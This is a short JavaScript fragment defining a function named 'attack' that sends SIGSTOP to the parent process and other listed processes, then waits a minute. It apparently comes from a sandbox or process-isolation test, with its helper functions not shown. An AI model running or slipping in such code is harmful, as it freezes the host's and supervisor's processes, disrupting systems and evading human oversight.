async function attack() {
  for (const pid of [process.ppid, ...pids()]) if (pid !== process.pid) attempt(pid, () => process.kill(pid, "SIGSTOP"));
  await sleep(60_000);
}
